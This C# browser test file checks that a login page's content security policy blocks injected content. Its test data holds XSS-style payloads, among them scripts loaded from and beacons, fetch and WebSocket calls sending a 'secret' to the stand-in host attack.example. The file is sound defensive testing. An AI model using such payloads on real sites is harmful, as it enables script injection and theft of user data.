using System.Collections.Concurrent;

namespace HsAvtal.EndToEnd.Tests.Access;

/// <summary>The content security policy is enforced by the browser, and the survey would see a page that breaks it.</summary>
[Collection(ReadingApp.Name)]
public sealed class PolicyTests
{
    private readonly AppFixture _fixture;

    public PolicyTests(AppFixture fixture) => _fixture = fixture;

    [Theory]
    [InlineData("document.body.insertAdjacentHTML('beforeend', '<img src=/favicon.svg onload=\"document.title = 1\">')", "script-src-attr")]
    [InlineData("document.body.append(Object.assign(document.createElement('script'), { textContent: 'document.title = 1' }))", "script-src-elem")]
    [InlineData("document.body.append(Object.assign(document.createElement('script'), { src: 'https://attack.example/x.js' }))", "script-src-elem")]
    [InlineData("document.body.setAttribute('style', 'display: none')", "style-src-attr")]
    [InlineData("document.body.append(Object.assign(document.createElement('img'), { src: 'https://attack.example/?secret' }))", "img-src")]
    [InlineData("void fetch('https://attack.example/?secret').catch(() => { })", "connect-src")]
    [InlineData("try { new WebSocket('wss://attack.example/') } catch { }", "connect-src")]
    [InlineData("document.body.append(Object.assign(document.createElement('iframe'), { src: '/logga-in' }))", "frame-src")]
    public async Task What_an_attacker_would_add_to_a_page_is_stopped(string script, string rule)
    {
        var console = new ConcurrentQueue<string>();
        await using var person = await _fixture.NewPersonAsync();
        var page = await person.NewPageAsync();
        page.KeepConsole(console);
        await page.GotoAsync("/logga-in");
        console.Should().BeEmpty();

        var told = page.WaitForConsoleMessageAsync(new() { Predicate = m => m.Text.StartsWith($"{PageExtensions.BrokenPolicy} {rule}", StringComparison.Ordinal) });
        await page.EvaluateAsync($"() => {{ {script} }}");

        await told;
        (await page.TitleAsync()).Should().StartWith("Logga in");
    }
}
